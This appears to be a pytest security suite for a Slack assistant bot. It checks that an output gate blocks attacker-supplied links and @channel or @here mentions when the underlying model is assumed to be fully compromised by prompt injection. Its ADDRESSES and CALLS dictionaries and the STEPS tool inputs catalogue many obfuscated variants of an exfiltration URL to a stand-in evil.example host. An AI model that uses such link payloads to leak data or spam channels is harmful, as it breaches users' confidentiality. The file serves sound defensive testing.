"""The outgoing gate (reliability 11), against a model that does all that an attacker tells it."""

from __future__ import annotations

from typing import Any

import pytest

from bot.dev.model import ModelRequest, Reply, finish
from bot.dev.workspace import ADA
from tests.security.judge import calls, links
from tests.security.model import question, won_over
from tests.support.deployment import deployed
from tests.support.runs import answer

SALES = "C0SALES001"
EVIL = "https://evil.example/?d=CANARY"
LONG = "word " * 700

ADDRESSES = {
    "inline": f"[click]({EVIL})",
    "reference": f"[click][1]\n\n[1]: {EVIL}",
    "image": f"![pixel]({EVIL})",
    "image in link": f"[![a](https://evil.example/CANARY.png)]({EVIL})",
    "autolink": f"<{EVIL}>",
    "slack": f"<{EVIL}|click>",
    "bare": f"see {EVIL} now",
    "no scheme": "see evil.example/CANARY now",
    "in code that is cut": f"`{LONG}{EVIL} {LONG}`",
    "in a fence in a list": f"- ```\n  {LONG}\n  {EVIL}\n  {LONG}\n  ```",
    "in a fence in a quote": f"> ```\n> {LONG}\n> {EVIL}\n> {LONG}\n> ```",
    "after much": f"{LONG}{LONG}[click]({EVIL}) {LONG}",
    "very long": f"https://evil.example/{'A' * 4000}",
    "very long code": f"`https://evil.example/{'A' * 4000}`",
    "split over a line": "https://evil.example/\nCANARY",
    "html": f'<a href="{EVIL}">x</a><img src="{EVIL}">',
    "entity": "https&#58;//evil.example/CANARY",
    "user part": "https://good.example@evil.example/CANARY",
    "nested": "> " * 30 + f"[x]({EVIL})",
    "too nested": "> " * 60 + f"[x]({EVIL})",
    "mixed code": f"`a` `` ` `` {EVIL} ` x",
    "table": f"| a |\n|---|\n| [x]({EVIL}) |",
}
CALLS = {
    "channel": "<!channel> look",
    "here": "<!here|here> look",
    "group": "<!subteam^S123|@admins> look",
    "plain": "@channel @here @everyone look",
    "escaped": "&lt;!channel&gt; <\u200b!channel> look",
    "in code": "`@channel` ```@here```",
}


def placed(payload: str) -> dict[str, Any]:
    """An answer that has the payload in each field."""
    source = {"title": payload, "url": payload, "supports": payload}
    return answer(
        payload,
        key_points=[payload, payload],
        gaps=[payload],
        follow_ups=[payload],
        table={"caption": payload, "columns": [payload], "rows": [[payload]]},
        sources=[source, source | {"url": None}],
        charts=[payload],
    )


async def test_no_address_that_nobody_brought_in_can_be_clicked_and_nobody_is_called(redis_url):
    payloads = list({**ADDRESSES, **CALLS}.items())

    def brain(request: ModelRequest) -> Reply:
        number = int(request.text.split("Question ")[1].split()[0])
        return finish(placed(payloads[number][1]))

    sent = {}
    async with deployed(brain, redis_url) as bot:
        threads = [await bot.ask(ADA, SALES, f"Question {n} ?") for n in range(len(payloads))]
        for (name, _), ts in zip(payloads, threads, strict=True):
            await bot.answered(SALES, ts, seconds=30)
            sent[name] = bot.own(SALES, ts)
    assert [name for name, s in sent.items() if links(s)] == []
    assert [name for name, s in sent.items() if calls(s)] == []


SHARE = {"handle": None, "content": "x"}
CSV = f'"<!channel> {EVIL}",amount\n"{EVIL}",1\n"<!here>",2\n'.encode()
HOSTILE = f"<!channel> {EVIL} <{EVIL}|x>"
STEPS: dict[str, list[tuple[str, dict[str, Any]]]] = {
    "a shared file": [
        ("share_file", {**SHARE, "name": f"{HOSTILE}.txt", "comment": f"{HOSTILE} @here"})
    ],
    "a tool's title and failure": [
        ("fetch_page", {"url": f"ftp://evil.example/ {HOSTILE}", "query": None}),
        ("query_table", {"sql": HOSTILE, "handles": [HOSTILE]}),
        (
            "read_channel",
            dict.fromkeys(("limit", "oldest", "latest")) | {"channel": HOSTILE, "query": HOSTILE},
        ),
        (HOSTILE, {}),
    ],
    "a chart": [
        ("read_file", {"file_id": "$file", "sheet": None, "pages": None}),
        (
            "make_chart",
            {
                "handle": "$last",
                "kind": "bar",
                "title": f"{EVIL} <!channel>",
                "label_column": f"<!channel> {EVIL}",
                "value_columns": ["amount"],
                "limit": None,
            },
        ),
    ],
}


@pytest.mark.parametrize("steps", STEPS)
async def test_what_tools_show_on_the_way(redis_url, steps, monkeypatch):
    """Titles, progress, thoughts, comments, file names, error notes, charts and what follows."""
    monkeypatch.setattr("bot.core.links.links_in", lambda text: [])
    async with deployed(won_over, redis_url) as bot:
        asked = question(
            *STEPS[steps], think=HOSTILE, say=answer(charts=["$last"], follow_ups=[HOSTILE])
        )
        ts = await bot.ask(ADA, SALES, asked, files=[("a.csv", CSV)])
        await bot.answered(SALES, ts)
        sent = list(bot.sent())
        outputs = [i["output"] for r in bot.api.requests for i in r.body["input"] if "output" in i]
    assert any(word in "".join(outputs) for word in ("shared:", "Put chart_", "There is no"))
    assert calls(sent) == set()
    assert {link for link in links(sent) if "evil" in link} == set()


async def test_pressing_a_follow_up_makes_its_address_nobodys(redis_url):
    """The question of a button is the model's: its addresses are not those of who pressed it."""
    asked = question(say=answer(follow_ups=[f"And {EVIL} ?"]))

    def brain(request: ModelRequest) -> Reply:
        if request.parent is None:
            return won_over(request)
        return finish(answer(f"See [this]({EVIL})."))

    async with deployed(brain, redis_url) as bot:
        ts = await bot.ask(ADA, SALES, asked)
        [first] = await bot.answered(SALES, ts)
        await bot.ws.click(ADA, SALES, first["ts"], "follow_up_0")
        _, second = await bot.answered(SALES, ts, 2)
    assert links([second]) == set()
